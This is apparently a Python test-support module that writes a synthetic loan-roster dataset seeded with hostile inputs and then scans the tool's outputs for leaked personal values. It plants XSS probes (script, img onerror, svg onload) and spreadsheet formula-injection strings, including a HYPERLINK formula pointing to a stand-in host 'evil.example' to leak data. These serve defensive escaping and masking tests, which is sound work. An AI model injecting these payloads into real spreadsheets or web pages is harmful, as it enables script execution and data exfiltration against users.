"""An adversarial programme for the end-to-end hostile tests (issue 12), and the searches that
check a bundle against it.

:func:`build` writes a small generated programme (``calib.synth``) and then plants, in every
table, what a careless clerk or an attacker would put there:

- markup (``<img src=x onerror=...>``, ``<script>``) in village, township and group names and in
  an address; formula prefixes (``= + - @``, tab, carriage return) in village names, person
  names, groups and addresses;
- known personal values: ID numbers, phones and names of accepted people in the roster and the
  reviewers register, and ID- and phone-like values typed into the wrong column of every other
  table (they end in the quarantine, whose ``value`` column is shown and written).

:func:`leaks` then searches every byte of a text (the CLI's output) or of every file under a
folder (HTML, notebooks, JSON, CSV, YAML, logs, xlsx unzipped, Parquet read) for those values.
"""
from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd

from calib import synth
from calib.ids import check_characters

from _support import AS_OF

MARKUP = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>alert(2)</script>"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak","open")'
#: Village names: markup, and each formula prefix a spreadsheet evaluates (tab and carriage
#: return are control characters, which a key column refuses; they go into names and groups).
VILLAGES = [f"{MARKUP}村", HYPERLINK, "+1+1村", "-2+3村", "@SUM(1)村", f"{SCRIPT}村"]
TOWNSHIP = f'<svg onload="alert(3)">镇'
#: Person names that will stay raw in memory and must never reach a reader unmasked.
NAMES = ["欧阳翠萍", "龚蕴晗", "司马德崇", "隗芷若"]
PHONES = ["13912345671", "18600001112", "15877776663", "17344445554", "13566667775", "18988889996"]


def _valid_id(first17: str) -> str:
    return first17 + str(check_characters([first17])[0])


#: Valid ID numbers that no generated person has, typed into tables that hold no ID column.
STRAY_IDS = [_valid_id(f"44182119{y}0{m}1{s}") for y, m, s in (("77", 3, "6123"), ("81", 5, "2247"),
                                                                  ("69", 7, "3351"), ("90", 9, "4439"))]
REVIEWER_ID = _valid_id("44182119850612377")


@dataclass
class Adversarial:
    """A written adversarial programme and what was planted in it."""

    folder: Path
    secrets: set[str] = field(default_factory=set)   # every raw personal value, planted or generated
    planted: set[str] = field(default_factory=set)   # the values this module planted


def _read(folder: Path, name: str) -> pd.DataFrame:
    return pd.read_csv(folder / f"{name}.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")


def _write(frame: pd.DataFrame, folder: Path, name: str) -> None:
    frame.to_csv(folder / f"{name}.csv", index=False, encoding="utf-8-sig", quoting=csv.QUOTE_ALL)


def _new_id(old: str, k: int) -> str:
    """Another valid ID with ``old``'s region, birth date and sex (so the roster's checks pass)."""
    seq = f"{(int(old[14:16]) + 17 * (k + 1)) % 100:02d}"
    return _valid_id(old[:14] + seq + old[16])


def build(folder: Path, *, seed: int = 3, villages: int = 6, households_per_village: int = 25,
          schedule: dict | None = None) -> Adversarial:
    """Write the adversarial programme into ``folder`` (created) and return what was planted
    (its loans priced with the points ``schedule``, default the sample's)."""
    res = synth.generate(seed=seed, villages=villages, households_per_village=households_per_village,
                         as_of=AS_OF, chinese_headers=True, schedule=schedule)
    synth.write(res, folder)
    ro = _read(folder, "roster")
    old = ro["行政村名称"].drop_duplicates().tolist()
    rename = dict(zip(old, VILLAGES))
    town = ro["乡镇"].iloc[0]
    tables = {p.stem: _read(folder, p.stem) for p in folder.glob("*.csv")}
    for name, t in tables.items():
        for col in ("行政村名称", "village"):
            if col in t.columns:
                t[col] = t[col].replace(rename)
        for col in ("乡镇", "township"):
            if col in t.columns:
                t[col] = t[col].replace({town: TOWNSHIP})
    ro = tables["roster"]
    # accepted people (valid, checked IDs) carrying planted personal values
    ok = ro.index[ro["身份证"].str.fullmatch(r"[0-9]{17}[0-9X]") & ro["与户主关系"].ne("户主")
                  & ~ro["身份证"].duplicated(keep=False)][:4]
    planted_ids = []
    for k, i in enumerate(ok):
        ro.at[i, "身份证"] = _new_id(ro.at[i, "身份证"], k)
        planted_ids.append(ro.at[i, "身份证"])
        ro.at[i, "姓名"] = NAMES[k]
        ro.at[i, "联系方式"] = PHONES[k]
    # formula prefixes and markup in people's names, groups and addresses (masked or shown)
    for k, (i, bad) in enumerate(zip(ro.index[10:16], ["=1+1", "+1", "-1", "@x", "\t=1+1", "\r=1+1"])):
        ro.at[i, "姓名"] = bad + "张三"
        ro.at[i, "组名"] = bad + "组"
        ro.at[i, "现居住地址"] = (MARKUP if k % 2 else bad) + "石角镇某村某号"
    rv = tables["reviewers"]
    rv.at[0, "name"], rv.at[1, "name"], rv.at[2, "id_number"] = "欧阳振华", "慕容晓晓", REVIEWER_ID
    # ID- and phone-like values typed into the wrong column of every other table
    tables["reviews"].at[0, "reviewer_id"] = PHONES[4]
    tables["reviews"].at[1, "household_id"] = STRAY_IDS[0]
    tables["relations"].at[0, "household_id"] = STRAY_IDS[1]
    tables["model_runs"].at[0, "grade"] = PHONES[5]
    tables["points"].at[0, "period"] = STRAY_IDS[2]
    tables["loans"].at[0, "household_id"] = STRAY_IDS[3]
    # formulas where a value is quarantined (its text is written to quarantine.csv)
    tables["reviews"].at[2, "proposed_limit"] = HYPERLINK
    tables["relations"].at[1, "relation"] = "@SUM(1)"
    tables["points"].at[1, "points"] = "-1+1"
    tables["model_runs"].at[1, "model_score"] = "\t=1+1"
    va = tables["village_assessments"]
    va.at[0, va.columns[1]] = f"{MARKUP} {PHONES[0]}"
    for name, t in tables.items():
        _write(t, folder, name)
    adv = Adversarial(folder)
    adv.planted = {*planted_ids, *NAMES, *PHONES, *STRAY_IDS, "欧阳振华", "慕容晓晓", REVIEWER_ID}
    secrets = set(adv.planted)
    for col in ("身份证", "户主身份证", "联系方式", "姓名"):
        secrets |= {v.strip() for v in ro[col] if len(v.strip()) >= (2 if col == "姓名" else 7)}
    for col in ("id_number", "name"):
        secrets |= {v.strip() for v in rv[col] if len(v.strip()) >= (2 if col == "name" else 7)}
    adv.secrets = secrets
    return adv


# --- searching outputs --------------------------------------------------------------------------

_DIGITS = re.compile(r"[0-9]{11,17}[0-9Xx]?")
_CJK = re.compile(r"[\u3400-\u9fff]+")


def _candidates(text: str) -> set[str]:
    """Every digit run (and its 11/15/18-long windows) and every 2-4 character window of a run of
    Chinese characters: each substring that could be a personal value (as check_bundle.py)."""
    out: set[str] = set()
    for m in _DIGITS.finditer(text):
        run = m.group()
        out.add(run)
        for n in (11, 15, 18):
            out.update(run[i:i + n] for i in range(0, max(len(run) - n + 1, 0)))
    for m in _CJK.finditer(text):
        run = m.group()
        for n in (2, 3, 4):
            out.update(run[i:i + n] for i in range(0, max(len(run) - n + 1, 0)))
    return out


def file_text(path: Path) -> str:
    """All the text a file holds: text files decoded, zip members (xlsx) unzipped, Parquet read."""
    data = path.read_bytes()
    if data[:2] == b"PK":
        try:
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                return " ".join(z.read(n).decode("utf-8", "ignore") for n in z.namelist())
        except zipfile.BadZipFile:
            pass
    if data[:4] == b"PAR1":
        import pyarrow.parquet as pq

        return pq.read_table(io.BytesIO(data)).to_pandas().to_csv()
    if path.suffix in (".sqlite", ".db"):
        import sqlite3

        with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as con:
            rows = []
            for (t,) in con.execute("SELECT name FROM sqlite_master WHERE type='table'"):
                rows += [repr(r) for r in con.execute(f'SELECT * FROM "{t}"')]
        return "\n".join(rows)
    return data.decode("utf-8", "ignore")


def leaks(secrets: set[str], text: str | None = None, folder: Path | None = None) -> list[str]:
    """Where a raw personal value occurs: ``["<where>: <value masked>", ...]`` (empty when none).

    Searches ``text`` (e.g. the CLI's stdout and stderr) and every file under ``folder``
    (hidden ones included)."""
    found = []
    texts = {"output": text} if text is not None else {}
    if folder is not None and folder.exists():
        for f in sorted(folder.rglob("*")):
            if f.is_file() and not f.is_symlink():
                texts[str(f.relative_to(folder))] = file_text(f)
    for where, t in texts.items():
        hits = sorted(_candidates(t) & secrets)
        hits += sorted(s for s in secrets if not s.isascii() and len(s) > 4 and s in t)
        if hits:
            found.append(f"{where}: {len(hits)} raw values, e.g. {hits[0][:3]}…")
    return found
